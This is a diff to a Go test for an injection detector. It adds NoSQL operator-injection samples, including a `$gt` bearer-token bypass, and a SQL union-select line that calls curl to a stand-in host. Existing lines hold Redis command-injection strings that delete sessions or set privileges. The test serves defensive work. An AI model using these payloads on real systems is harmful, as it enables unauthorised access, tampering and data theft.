@@ -231,6 +231,11 @@ func TestQueryLanguages(t *testing.T) {
 	f(`the boss' or meta (k)`, false)
 	f("My code: var d=new Date(); while(new Date()-d<1000){} hangs", false)
 	f("```js\ndb.users.find({a:1})\n```\nwhat does it do?", false)
+	f(`j:{"name":{"$regex":"^a"}}`, true)
+	f(`j:{"name":{"first":"a"}}`, false)
+	f(`Bearer {"$gt":""}`, true)
+	f(`Bearer {"a":"$gt"}`, false)
+	f(`k' union select curl("http://h.example/",{"a":1}) --`, true)
 	// Lines of Redis.
 	f("k\r\nDEL session:1\r\n", true)
 	f("k\r\nSET boss true\r\n", true)
